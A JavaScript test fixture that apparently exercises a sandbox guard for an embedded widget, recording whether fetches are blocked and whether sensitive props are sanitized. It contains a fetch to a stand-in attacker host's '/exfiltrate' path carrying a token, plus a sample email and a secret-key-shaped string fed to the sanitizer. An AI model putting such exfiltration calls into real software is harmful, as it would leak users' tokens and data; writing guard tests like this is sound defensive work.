// The widget: what it tries, and what came of it, written into #result for the test to read.
import { ready } from "./guard.js";

const params = new URLSearchParams(location.search);
const api = params.get("api");
const evil = params.get("evil");
/** @param {Promise<Response>} request */
const outcome = (request) => request.then((response) => response.json(), (error) => `${error.name}: ${error.message}`);

const early = outcome(fetch(`${evil}/early`)); // made while the engine is still loading
const guard = await ready;
const result = {
  origin: self.origin,
  early: await early,
  unlisted: await outcome(fetch(`${evil}/exfiltrate?token=abc`)),
  wrongPath: await outcome(fetch(`${api}/admin`)),
  wrongMethod: await outcome(fetch(`${api}/v1/items`, { method: "DELETE" })),
  allowed: await outcome(fetch(`${api}/v1/items`)),
  props: guard.sanitizeProps({ user: { email: "jane.doe@example.com", plan: "pro" }, apiKey: "sk_live_4eC39HqLyjWDarjtT1zdp7dc", count: 3 }).value,
};
/** @type {HTMLElement} */ (document.getElementById("result")).textContent = JSON.stringify(result);
